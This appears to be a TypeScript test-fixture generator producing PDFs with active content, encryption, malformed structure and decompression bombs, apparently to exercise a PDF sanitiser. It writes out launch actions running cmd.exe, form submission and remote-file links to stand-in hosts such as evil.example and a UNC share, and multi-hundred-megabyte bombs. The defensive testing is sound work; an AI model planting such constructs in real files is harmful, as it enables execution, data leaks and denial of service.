import { deflateSync } from 'node:zlib'
import { assemble, type Body, deflated, makePdf, objectsOf, type Recipe, update } from './make-pdf'

export type Corpus = [name: string, bytes: Buffer][]

const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>]`
const annotation = (rest: string) => `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${rest} >>]`
const file: Body = { dict: '/Type /EmbeddedFile', bytes: Buffer.from('MZ not a proof') }

/** One for each thing that a reader may act on. */
const active: Record<string, Recipe> = {
  'JavaScript on opening': { catalog: `/OpenAction ${js}` },
  'JavaScript on opening, by reference': { catalog: '/OpenAction {x0}', extra: [js] },
  'JavaScript in a stream': { catalog: '/OpenAction << /S /JavaScript /JS {x0} >>', extra: [deflated('app.alert(1)')] },
  'JavaScript among the names': { catalog: `/Names << /JavaScript << /Names [(a) ${js}] >> >>` },
  'JavaScript on closing': { catalog: `/AA << /WC ${js} >>` },
  'JavaScript on a page': { page: `/AA << /O ${js} >>` },
  'JavaScript in a link': { page: link(js) },
  'JavaScript after a harmless action': { page: link(`<< /S /URI /URI (https://a.example) /Next ${js} >>`) },
  'JavaScript in an outline': { catalog: '/Outlines << /First {x0} >>', extra: [`<< /Title (a) /A ${js} >>`] },
  'JavaScript in a form field': { catalog: '/AcroForm << /Fields [{x0}] >>', extra: [`<< /FT /Tx /T (a) /AA << /K ${js} >> >>`] },
  'JavaScript in a rendition': { page: link(`<< /S /Rendition /JS (app.alert\\(1\\)) >>`) },
  'JavaScript that nothing refers to': { extra: [js] },
  'a link that launches': { page: link('<< /S /Launch /F (cmd.exe) >>') },
  'a program on opening': { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
  'a page of the web on opening': { catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' },
  'a page of the web on a page': { page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' },
  'another file by link': { page: link('<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>') },
  'an embedded file by link': { page: link('<< /S /GoToE /T << /R /C >> >>') },
  'a form that is sent': { page: link('<< /S /SubmitForm /F (https://evil.example) >>') },
  'data that is fetched': { page: link('<< /S /ImportData /F (a.fdf) >>') },
  'a sound': { page: link('<< /S /Sound /Sound {x0} >>'), extra: [deflated('x', '/R 8000')] },
  'a film': { page: annotation('/Subtype /Movie /Movie << /F (a.avi) >>') },
  'a screen': { page: annotation('/Subtype /Screen /MK << >>') },
  'rich media': { page: annotation('/Subtype /RichMedia /RichMediaContent << >>') },
  'rich media settings': { page: annotation('/Subtype /Stamp /RichMediaSettings << /Activation << >> >>') },
  'a space': { page: annotation('/Subtype /3D /3DD {x0}'), extra: [deflated('x', '/Type /3D /Subtype /U3D')] },
  'an attachment': { page: annotation('/Subtype /FileAttachment /FS << /EF << /F {x0} >> >>'), extra: [file] },
  'files among the names': { catalog: '/Names << /EmbeddedFiles << /Names [(a) << /EF << /F {x0} >> >>] >> >>', extra: [file] },
  'an associated file': { catalog: '/AF [<< /Type /Filespec /EF << /F {x0} >> >>]', extra: [file] },
  'an embedded file that nothing refers to': { extra: [file] },
  'a portfolio': { catalog: '/Collection << /View /D >>' },
  'a dynamic form': { catalog: '/AcroForm << /Fields [] /XFA {x0} >>', extra: [deflated('<xdp:xdp/>')] },
  'a dynamic form in parts': { catalog: '/AcroForm << /Fields [] /XFA [(template) {x0}] >>', extra: [deflated('<template/>')] },
  'a stream from elsewhere': { content: { dict: '/F (https://evil.example/a)', bytes: Buffer.alloc(0) } },
  PostScript: { extra: [deflated('systemdict', '/Type /XObject /Subtype /PS')] },
}

/** Each plainly, packed, with disguised names, and brought in by a later revision. */
export function activePdfs(): Corpus {
  return Object.entries(active).flatMap(([name, recipe]): Corpus => {
    const later = objectsOf(recipe)
    return [
      [`${name}`, makePdf(recipe)],
      [`${name}, packed`, makePdf({ ...recipe, as: 'packed' })],
      [`${name}, disguised`, makePdf({ ...recipe, disguised: true })],
      [`${name}, in a later revision`, update(makePdf(), later)],
    ]
  })
}

export function encryptedPdfs(): Corpus {
  const key = `/O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> /P -1340`
  const filters = [
    `/V 1 /R 2 ${key}`,
    `/V 2 /R 3 /Length 128 ${key}`,
    `/V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF /StrF /StdCF ${key}`,
    `/V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF ${key}`,
  ]
  return filters.flatMap((filter) =>
    (['classic', 'packed'] as const).flatMap((as): Corpus => {
      const trailer = `/ID [<aa> <bb>] /Encrypt << /Filter /Standard ${filter} >>`
      const referred = { extra: [`<< /Filter /Standard ${filter} >>`], trailer: '/Encrypt 7 0 R' }
      return [
        [`encrypted ${as} ${filter.slice(0, 10)}`, makePdf({ as, trailer })],
        [`encrypted ${as} by reference ${filter.slice(0, 10)}`, makePdf({ as, ...referred })],
      ]
    }),
  )
}

export function brokenPdfs(): Corpus {
  const good = makePdf()
  const packed = makePdf({ as: 'packed', pages: 3 })
  const text = good.toString('latin1')
  const bytes = (changed: string) => Buffer.from(changed, 'latin1')
  const cuts = [good, packed].flatMap((file, which) =>
    Array.from({ length: 25 }, (_, part): Corpus[number] => {
      return [`a PDF cut short ${which} ${part}/25`, file.subarray(0, Math.max(9, Math.floor((file.length * part) / 25)))]
    }),
  )
  return [
    ...cuts,
    ['a PDF of its first line', Buffer.from('%PDF-1.7\n')],
    ['without a table', bytes(text.replace(/xref[\s\S]*$/, 'trailer << /Root 1 0 R >>\n%%EOF\n'))],
    ['without an end', bytes(text.replace('%%EOF\n', ''))],
    ['with a table elsewhere', bytes(text.replace(/startxref\n\d+/, 'startxref\n12'))],
    ['with a table beyond the end', bytes(text.replace(/startxref\n\d+/, 'startxref\n99999999'))],
    [
      'with objects elsewhere',
      bytes(text.replace(/\n(\d{10}) 00000 n/g, (_, at) => `\n${String(Number(at) + 3).padStart(10, '0')} 00000 n`)),
    ],
    ['without a catalogue', bytes(text.replace('/Root 1 0 R', '/Rooo 1 0 R'))],
    ['with the font as catalogue', bytes(text.replace('/Root 1 0 R', '/Root 3 0 R'))],
    ['without pages', makePdf({ pages: 0 })],
    ['of 51 pages', makePdf({ pages: 51 })],
    ['of 2000 pages, packed', makePdf({ pages: 2000, as: 'packed' })],
    ['with a page that is its own parent', bytes(text.replace(/\/Kids \[[^\]]*\]/, '/Kids [2 0 R]'))],
    ['with a page of nothing', bytes(text.replace(/\/Kids \[[^\]]*\]/, '/Kids [99 0 R]'))],
    ['with a page twice', bytes(text.replace(/\/Kids \[[^\]]*\]/, '/Kids [6 0 R 6 0 R]'))],
    ['with a length that needs itself', makePdf({ content: { dict: '/Length 5 0 R', bytes: Buffer.alloc(9) } }).subarray(0, -20)],
    ['with a damaged page', makePdf({ content: { dict: '/Filter /FlateDecode', bytes: Buffer.from('not deflated') } })],
    ['with an unknown filter', makePdf({ content: { dict: '/Filter /Crypt', bytes: Buffer.from('x') } })],
    ['behind something else', Buffer.concat([Buffer.from('\x7fELF'), good])],
    ['behind a line of text', Buffer.concat([Buffer.from('Content-Type: text/html\n\n'), good])],
    ['before something else', Buffer.concat([good, Buffer.from('MZ\x90\0 program')])],
    ['as a Word document', Buffer.from('%PDF-1.4\nPK\x03\x04word/document.xml')],
  ]
}

export function pdfBombs(): Corpus {
  const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024))
  const flate = '/Filter /FlateDecode'
  const picture = (size: string, rest: Body) => ({
    page: '/Annots [<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N {x0} >> >>]',
    extra: [
      {
        dict: `/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 ${size} ${typeof rest === 'string' ? rest : rest.dict}`,
        bytes: typeof rest === 'string' ? Buffer.from('x') : rest.bytes,
      },
    ],
  })
  const deep = (open: string, close: string) => makePdf({ page: `/PieceInfo ${open.repeat(20_000)}${close.repeat(20_000)}` })
  const nested = objectsOf({ extra: Array.from({ length: 90 }, (_, n) => `<< /Type /Pages /Kids [{x${n + 1}}] /Count 1 >>`) })
  nested.set(2, '<< /Type /Pages /Count 1 /Kids [7 0 R] >>')
  const manyOf = objectsOf({ extra: [deflated(Buffer.from('0 0 '.repeat(500)), '/Type /ObjStm /N 999999999 /First 1')] })
  return [
    ['a page of 200 MB', makePdf({ content: { dict: flate, bytes: zeros(200) } })],
    [
      'a page packed twice',
      makePdf({ content: { dict: '/Filter [/FlateDecode /FlateDecode]', bytes: deflateSync(zeros(100)) } }),
    ],
    [
      'a page packed three times',
      makePdf({ content: { dict: '/Filter [/FlateDecode /LZWDecode /FlateDecode]', bytes: deflateSync(zeros(50)) } }),
    ],
    [
      'a page run-length twice',
      makePdf({ content: { dict: '/Filter [/RunLengthDecode /RunLengthDecode]', bytes: Buffer.alloc(4_000_000, 129) } }),
    ],
    ['a page of LZW', makePdf({ content: { dict: '/Filter /LZWDecode', bytes: Buffer.alloc(6_000_000, 128) } })],
    ['a picture of 100000 × 100000', makePdf(picture('/Width 100000 /Height 100000', { dict: flate, bytes: zeros(1) }))],
    ['a picture of 400 MB', makePdf(picture('/Width 9000 /Height 9000', { dict: flate, bytes: zeros(400) }))],
    ['a picture without a size', makePdf(picture('', { dict: '/Filter /JPXDecode', bytes: Buffer.alloc(99) }))],
    ['lists in lists', deep('[', ']')],
    ['dictionaries in dictionaries', deep('<< /A ', '>>')],
    ['pages in pages', assemble(nested, {})],
    ['a million packed objects', assemble(manyOf, { trailer: '/Prev 10' })],
    ['a table of 100 MB', tableBomb(zeros(100))],
    ['objects of 100 MB', objectsBomb(zeros(100))],
    ['a table of a billion rows', tableRows()],
  ]
}

function tableBomb(bytes: Buffer): Buffer {
  const head = makePdf()
  const stream = Buffer.concat([
    Buffer.from(
      `9 0 obj\n<< /Type /XRef /W [1 4 1] /Size 9 /Root 1 0 R /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n`,
    ),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ])
  return Buffer.concat([head, stream, Buffer.from(`startxref\n${head.length}\n%%EOF\n`)])
}

function objectsBomb(bytes: Buffer): Buffer {
  const made = makePdf({ as: 'packed' })
  const at = made.indexOf('/Type /ObjStm')
  const start = made.lastIndexOf('obj\n', at) + 4
  const end = made.indexOf('endobj', at)
  const holder = Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 5 /First 30 /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream\n'),
  ])
  const shifted = Buffer.concat([made.subarray(0, start), holder, made.subarray(end)])
  const by = holder.length - (end - start)
  const before = Number(/startxref\n(\d+)/.exec(made.toString('latin1'))?.[1])
  return Buffer.from(shifted.toString('latin1').replace(/startxref\n\d+/, `startxref\n${before + by}`), 'latin1')
}

function tableRows(): Buffer {
  return Buffer.from(makePdf().toString('latin1').replace('0 1\n0000000000', '0 999999999\n0000000000'), 'latin1')
}
